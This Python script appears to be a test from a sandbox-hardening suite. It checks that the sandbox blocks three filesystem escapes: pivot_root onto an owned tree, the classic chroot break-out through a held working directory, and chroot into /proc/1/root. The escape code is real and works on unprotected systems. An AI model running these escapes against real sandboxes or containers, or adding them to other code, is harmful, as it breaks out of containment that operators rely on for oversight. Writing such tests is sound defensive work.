# ccx-attack: pivot_root and chroot, and the classic chroot break-out through a held cwd
# ccx-category: filesystem
# ccx-status: ok
# ccx-event: syscall_refused ^syscall=pivot_root
# ccx-event: syscall_refused ^syscall=chroot
# ccx-steps: 3
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
SYS_pivot_root = 155
os.makedirs("/work/new/old", exist_ok=True)

# pivot_root onto a tree we own would detach the sandbox's root.
if libc.syscall(SYS_pivot_root, b"/work/new", b"/work/new/old") == 0:
    print("ESCAPED: pivot_root to /work/new")
else:
    print(f"BLOCKED: pivot_root /work/new: {os.strerror(ctypes.get_errno())}")

# chroot into a subdirectory while the cwd stays outside it, then climb: the old break-out.
os.chdir("/work")
try:
    os.chroot("/work/new")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print(f"ESCAPED: chroot break-out, now at {os.listdir('/')}")
except OSError as e:
    print(f"BLOCKED: chroot /work/new then chdir ..: {e.strerror}")

# chroot to / of init, through its magic link.
try:
    os.chroot("/proc/1/root")
    print(f"ESCAPED: chroot /proc/1/root shows {os.listdir('/')}")
except OSError as e:
    print(f"BLOCKED: chroot /proc/1/root: {e.strerror}")
